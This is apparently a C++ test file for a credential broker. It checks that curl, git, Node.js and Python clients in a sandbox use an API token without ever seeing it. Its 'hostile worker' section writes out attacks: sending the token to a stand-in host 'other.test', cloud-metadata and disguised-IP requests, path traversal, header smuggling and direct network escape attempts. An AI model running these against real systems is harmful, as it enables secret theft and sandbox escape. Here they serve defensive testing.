// A hostile client in a real sandbox: curl, git, Node.js and Python against servers that only the broker can reach.
#include "base/testing.h"
#include "broker/egress/redactor.h"
#include "broker/testing.h"
#include "sandbox/local/local_provider.h"
#include "sandbox/local/test_folder.h"

#include <csignal>
#include <cstdlib>
#include <fcntl.h>
#include <fstream>
#include <unistd.h>

using namespace hone;
using namespace hone::broker;
using namespace hone::broker::testing;

namespace {

// Serves the files of a folder, and keeps the credentials it was sent.
class FileServer {
public:
    explicit FileServer(std::string root) : m_root(std::move(root)) {}
    void serve(Channel& channel) {
        for (;;) {
            const auto read = read_request(channel, soon());
            if (!read.ok() || !read.value()) return;
            const RequestHead& head = *read.value();
            {
                const Lock lock(m_mutex);
                m_credentials.insert(std::string(header_value(head.headers, "authorization")));
            }
            const std::string path(head.path_without_query());
            auto content = path.find("..") == std::string::npos ? read_file(m_root + path) : not_found("file");
            const std::string body = content.ok() ? content.value() : "";
            const std::string answer = "HTTP/1.1 " + std::string(content.ok() ? "200 OK" : "404 Not Found") +
                                       "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
            if (!channel.write(answer, soon()).ok()) return;
        }
    }
    std::set<std::string> credentials() {
        const Lock lock(m_mutex);
        return m_credentials;
    }

private:
    const std::string m_root;
    Mutex m_mutex;
    std::set<std::string> m_credentials;
};

// The world of World, with a sandbox in it.
struct Sandboxed : World {
    sandbox::Folder folder;
    std::unique_ptr<sandbox::Provider> provider;
    std::unique_ptr<sandbox::Sandbox> box;
    std::map<std::string, std::string> environment;
    std::string output; // of all commands

    void start() {
        const std::string shared = folder.path + "/shared";
        REQUIRE(make_directories(shared, 0755).ok());
        auto opened = sandbox::open_local_provider({folder.path, sandbox::hone_program()});
        REQUIRE_MESSAGE(opened.ok(), (opened.ok() ? "" : opened.error().message));
        provider = std::move(opened).value();
        sandbox::SandboxSpec spec;
        spec.keep = true;
        spec.network = sandbox::NetworkMode::broker;
        spec.mounts.value = {{shared, "/hone", true}};
        auto started = provider->start(spec);
        REQUIRE_MESSAGE(started.ok(), (started.ok() ? "" : started.error().message));
        box = std::move(started).value();
        auto listeners = box->listeners().value();
        attached_run = broker->attach(access, {std::move(listeners.at(0)), std::move(listeners.at(1))}).value();
        const SandboxEnvironment told = sandbox_environment(*attached_run).value();
        for (const auto& [name, value] : told.variables) environment[name] = value;
        environment["PATH"] = "/usr/local/bin:/usr/bin:/bin";
        environment["HOME"] = "/home/worker";
        for (const MountedFile& file : told.files)
            if (file.path.starts_with("/hone/"))
                REQUIRE(write_file(shared + file.path.substr(5), file.content, 0644).ok());
    }
    int64_t begin(const std::string& script) {
        sandbox::Command command;
        command.argv = {"/bin/sh", "-c", script};
        command.env.value = environment;
        auto number = box->execute(command);
        REQUIRE_MESSAGE(number.ok(), (number.ok() ? "" : number.error().message));
        return number.value();
    }
    std::string run(const std::string& script) {
        std::string text = sandbox::read_all(*box, begin(script));
        output += text;
        return text;
    }
    ~Sandboxed() {
        if (box) (void)box->destroy();
    }
};

// Whether a process outside could find the text in the memory or environment of this one.
bool is_in_process(const std::string& pid, std::string_view text) {
    for (const char* name : {"/environ", "/cmdline"})
        if (const auto content = read_file("/proc/" + pid + name); content.ok())
            if (content.value().find(text) != std::string::npos) return true;
    std::ifstream maps("/proc/" + pid + "/maps");
    const Fd memory(::open(("/proc/" + pid + "/mem").c_str(), O_RDONLY | O_CLOEXEC));
    if (!memory.is_open()) return false;
    for (std::string line; std::getline(maps, line);) {
        unsigned long from = 0;
        unsigned long to = 0;
        char flags[5] = "";
        if (std::sscanf(line.c_str(), "%lx-%lx %4s", &from, &to, flags) != 3 || flags[0] != 'r' || flags[1] != 'w')
            continue;
        std::string bytes(std::min<size_t>(to - from, 64 << 20), '\0');
        const ssize_t got = ::pread(memory.get(), bytes.data(), bytes.size(), static_cast<off_t>(from));
        if (got > 0 && std::string_view(bytes.data(), static_cast<size_t>(got)).find(text) != std::string_view::npos)
            return true;
    }
    return false;
}

std::vector<std::string> children_of(const std::string& pid) {
    std::vector<std::string> found{pid};
    for (size_t i = 0; i < found.size(); ++i) {
        std::ifstream list("/proc/" + found[i] + "/task/" + found[i] + "/children");
        for (std::string child; list >> child;) found.push_back(child);
    }
    return found;
}

} // namespace

TEST_CASE("real clients in a real sandbox use the secret without having it") {
    Sandboxed world;
    const std::string repository = world.folder.path + "/served/repo.git";
    const std::string make =
        "set -e; mkdir -p " + repository + " && cd " + world.folder.path +
        " && git init -q -b main work && cd work && echo hello > file && git add file && "
        "git -c user.name=t -c user.email=t@t commit -q -m first && git clone -q --bare . ../bare && "
        "rm -rf ../served/repo.git && mv ../bare ../served/repo.git && "
        "git -C ../served/repo.git update-server-info";
    REQUIRE(std::system(("/bin/sh -c '" + make + "' >/dev/null 2>&1").c_str()) == 0);
    FileServer files(world.folder.path + "/served");
    const auto certificate = world.authority.issue("git", "DNS:git.test");
    Origin api(echo, &world.certificate);
    Origin git([&](Channel& channel) { files.serve(channel); }, &certificate);
    Origin evil(echo, &world.certificate);
    world.resolver->lead("api.test", {api.address()});
    world.resolver->lead("git.test", {git.address()});
    world.resolver->lead("other.test", {evil.address()});
    world.access.grant.credentials = {token_for({{"api.test", 443, true, {}, "/api", false}}),
                                      {"API_TOKEN",
                                       "sec_api",
                                       "api token",
                                       true,
                                       {{"git.test", 443, true, {"GET"}, "/repo.git", false}},
                                       "authorization",
                                       "Basic x-access-token:{}"}};
    world.start();
    const std::string stars(canary.size(), '*');
    const std::string placeholder = world.environment["API_TOKEN"];
    CHECK(placeholder.starts_with("ghp_hone"));

    const std::string curl =
        world.run("curl -sS -m 60 -H \"Authorization: Bearer $API_TOKEN\" https://api.test/api/curl 2>&1");
    CHECK_MESSAGE(curl.find("Bearer " + stars) != std::string::npos, curl);
    CHECK(curl.find("GET /api/curl") != std::string::npos);

    const std::string python =
        world.run("/usr/bin/python3 -c 'import urllib.request as u, os; r = u.Request(\"https://api.test/api/python\", "
                  "headers={\"Authorization\": \"token \" + os.environ[\"API_TOKEN\"]}); "
                  "print(u.urlopen(r, timeout=60).read().decode())' 2>&1");
    CHECK_MESSAGE(python.find("token " + stars) != std::string::npos, python);

    const std::string node = world.run(
        "cat > /tmp/a.js <<'END'\n"
        "const http = require('http'), tls = require('tls');\n"
        "http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'api.test:443',\n"
        "  headers: {host: 'api.test:443'}}).on('connect', (r, s) "
        "=> {\n"
        "  const t = tls.connect({socket: s, servername: 'api.test', ALPNProtocols: ['h2', 'http/1.1']}, () =>\n"
        "    t.write('GET /api/node HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n'));\n"
        "  t.on('data', d => process.stdout.write(d)); t.on('error', e => console.log(e));\n"
        "}).end();\nEND\nnode /tmp/a.js 2>&1");
    CHECK_MESSAGE(node.find("Bearer " + stars) != std::string::npos, node);

    const std::string clone =
        world.run("git clone -q https://git.test/repo.git /tmp/clone 2>&1 && cat /tmp/clone/file");
    CHECK_MESSAGE(clone == "hello\n", clone);
    CHECK(files.credentials() == std::set<std::string>{"Basic " + to_base64("x-access-token:" + std::string(canary))});

    // A client that would rather speak HTTP/2, where one connection may serve many hosts.
    CHECK(world.run("curl -sS -m 60 --http2 -o /dev/null -w '%{http_version}' https://api.test/api/x 2>&1") == "1.1");

    // What a hostile worker tries.
    const std::string tries =
        world.run("t() { curl -sS -m 20 -o /tmp/body -w '%{http_code}/%{http_connect} ' \"$@\" 2>/dev/null; }\n"
                  "t https://other.test/ -H \"Authorization: Bearer $API_TOKEN\"\n"
                  "t http://other.test/\n"
                  "t http://169.254.169.254/latest/meta-data/\n"
                  "t http://2852039166/\n"
                  "t https://api.test:8443/api/x\n"
                  "t https://api.test/elsewhere -H \"Authorization: Bearer $API_TOKEN\"\n"
                  "t --path-as-is https://api.test/api/../elsewhere\n"
                  "t -X TRACE https://api.test/api/x\n"
                  "t https://api.test/api/x -H 'Host: other.test'\n"
                  "t --noproxy '*' http://127.0.0.1:3128/\n"
                  "t --noproxy '*' http://1.1.1.1/\n"
                  "t --proxy-header 'Host: other.test' https://other.test/\n");
    CHECK(tries == "000/403 403/000 403/000 403/000 000/403 403/200 403/200 403/200 421/200 400/000 000/000 000/403 ");
    CHECK(evil.connections() == 0);

    // T22, T23, T25: past the proxy there is nothing: no route, no resolver, none of the host's or other runs' ports.
    const std::string port = evil.address().substr(evil.address().rfind(':') + 1);
    const std::string direct = world.run(
        "cat > /tmp/direct.py <<'END'\n"
        "import socket as s, sys\n"
        "def t(name, act):\n"
        "    try: act(); print(name, 'REACHED')\n"
        "    except OSError: print(name, 'no')\n"
        "def tcp(host, port): s.create_connection((host, port), 3).close()\n"
        "def udp(family, host, port):\n"
        "    one = s.socket(family, s.SOCK_DGRAM); one.settimeout(3); one.connect((host, port))\n"
        "    one.send(b'x'); one.recv(1)\n"
        "t('tcp', lambda: tcp('1.1.1.1', 443)); t('dot', lambda: tcp('1.1.1.1', 853))\n"
        "t('tcp6', lambda: tcp('2606:4700:4700::1111', 443))\n"
        "t('udp', lambda: udp(s.AF_INET, '1.1.1.1', 53)); t('dns', lambda: udp(s.AF_INET, '127.0.0.53', 53))\n"
        "t('udp6', lambda: udp(s.AF_INET6, '2606:4700:4700::1111', 53))\n"
        "t('icmp', lambda: s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP).sendto(b'x', ('1.1.1.1', 0)))\n"
        "t('resolve', lambda: s.getaddrinfo('api.test', 443))\n"
        "t('host', lambda: tcp('127.0.0.1', int(sys.argv[1]))); t('host6', lambda: tcp('::1', int(sys.argv[1])))\n"
        "t('metadata', lambda: tcp('169.254.169.254', 80)); t('lan', lambda: tcp('172.17.0.1', 80))\n"
        "END\n/usr/bin/python3 /tmp/direct.py " +
        port + " 2>&1");
    CHECK_MESSAGE(direct == "tcp no\ndot no\ntcp6 no\nudp no\ndns no\nudp6 no\nicmp no\nresolve no\nhost no\nhost6 no\n"
                            "metadata no\nlan no\n",
                  direct);
    CHECK(evil.connections() == 0);

    const std::string own = world.run("curl -sS -m 60 -H 'Authorization: Bearer attacker' -H 'X-Api-Key: attacker' "
                                      "https://api.test/api/own 2>&1");
    CHECK(own.find("attacker") == std::string::npos);
    CHECK(own.find("Bearer " + stars) != std::string::npos);

    // T28: a process that has just used the secret, searched from outside.
    if (::geteuid() == 0) {
        const int64_t waiting = world.begin(
            "exec /usr/bin/python3 -c 'import urllib.request as u, os, time, sys; "
            "x = u.urlopen(u.Request(\"https://api.test/api/hold\", headers={\"Authorization\": \"token \" + "
            "os.environ[\"API_TOKEN\"]}), timeout=60).read(); sys.stdout.write(\"held\\n\"); sys.stdout.flush(); "
            "time.sleep(600)' 2>&1");
        std::string said;
        while (said.find("held") == std::string::npos) {
            const auto part = world.box->output(waiting, static_cast<int64_t>(0));
            REQUIRE(part.ok());
            said.clear();
            for (const auto& piece : part.value().parts) said += piece.bytes;
            REQUIRE(!part.value().finished);
        }
        const auto processes = children_of(std::to_string(world.box->view().value().pid));
        CHECK(processes.size() >= 2);
        bool found_placeholder = false;
        for (const std::string& pid : processes) {
            CHECK_FALSE(is_in_process(pid, canary));
            found_placeholder |= is_in_process(pid, placeholder);
        }
        CHECK(found_placeholder); // the search itself works
        REQUIRE(world.box->signal(waiting, SIGKILL).ok());
    } else {
        skip_test("its search of a process from outside needs root");
    }

    // T33: nowhere in what came out, in what was decided, or in what lies on disk.
    CHECK(world.output.find(canary) == std::string::npos);
    CHECK(world.decisions->text().find(canary) == std::string::npos);
    std::string reversed(canary.rbegin(), canary.rend());
    std::vector<std::string> spellings = spellings_of(canary);
    spellings.push_back(reversed);
    spellings.push_back(to_base64(reversed));
    std::string lines;
    for (const std::string& spelling : spellings) lines += spelling + "\n";
    REQUIRE(write_file(world.folder.path + "/spellings", lines, 0600).ok());
    CHECK(std::system(
              ("grep -rqaF -f " + world.folder.path + "/spellings --exclude=spellings " + world.folder.path).c_str()) ==
          256);
    for (const std::string& text : spellings) {
        CHECK(world.output.find(text) == std::string::npos);
        CHECK(world.decisions->text().find(text) == std::string::npos);
    }

    // When the broker is gone, nothing answers.
    world.broker.reset();
    CHECK(world.run("curl -sS -m 3 -o /dev/null -w '%{http_code}' https://api.test/api/x 2>/dev/null") == "000");
}
